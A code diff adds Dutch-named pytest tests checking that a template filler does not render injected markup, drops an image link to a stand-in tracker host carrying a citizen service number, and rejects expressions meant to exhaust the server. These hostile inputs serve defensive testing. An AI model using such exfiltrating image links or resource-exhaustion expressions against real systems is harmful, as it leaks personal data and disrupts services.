@@ -151,3 +151,20 @@ def test_fingerprint_verandert_bij_nieuwe_generieke_revisie(dijkstad):
     artikel.eigenaar = "Ander team"  # metadata, not content
     publiceer(artikel)
     assert samengesteld(artikel, dijkstad).fingerprint == na
+
+
+def test_sjabloon_slotwaarden_worden_geen_markup():
+    html = vul_sjabloon("Beste {{ p.naam }}", {"p": {"naam": "[Klik](https://evil.example) **vet** <b>x</b>"}})
+    assert "<a " not in html and "<strong>" not in html and "<b>" not in html
+    assert "Klik" in html and "evil.example" in html
+
+
+def test_sjabloon_zonder_afbeeldingen_geen_lek_naar_derden():
+    html = vul_sjabloon("![](https://tracker.example/p.png?bsn={{ p.bsn }}) Hallo", {"p": {"bsn": "999990019"}})
+    assert "<img" not in html and "tracker.example" not in html
+
+
+@pytest.mark.parametrize("sjabloon", ["{{ 'a' * 10**9 }}", "{{ 'a' * 100000 }}", "{{ 2 ** 100000 }}", "{{ 1 / 0 }}"])
+def test_sjabloon_kan_de_server_niet_laten_hangen(sjabloon):
+    with pytest.raises(SjabloonFout):
+        vul_sjabloon(sjabloon, {})
